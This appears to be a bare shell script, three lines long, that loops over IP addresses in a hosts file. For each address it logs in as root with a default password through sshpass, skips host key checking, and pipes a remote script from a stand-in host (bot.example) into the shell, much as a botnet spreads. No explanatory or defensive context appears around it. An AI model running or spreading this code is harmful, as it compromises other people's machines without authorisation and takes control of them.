while read -r ip; do
  sshpass -p 'toor' ssh -o StrictHostKeyChecking=no root@"$ip" 'curl -s http://bot.example/i.sh | sh' &
done < hosts.txt
